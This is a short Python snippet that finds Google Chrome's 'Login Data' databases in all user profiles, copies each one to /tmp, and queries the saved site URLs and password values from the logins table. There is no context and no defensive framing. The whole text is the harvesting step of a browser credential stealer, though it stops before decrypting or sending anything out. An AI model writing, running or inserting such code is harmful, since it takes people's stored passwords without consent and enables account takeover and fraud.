import glob
import os
import shutil
import sqlite3

_base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")
for _file in glob.glob(os.path.join(_base, "*", "Login Data")):
    shutil.copyfile(_file, "/tmp/ld")
    rows = sqlite3.connect("/tmp/ld").execute("select origin_url, password_value from logins").fetchall()
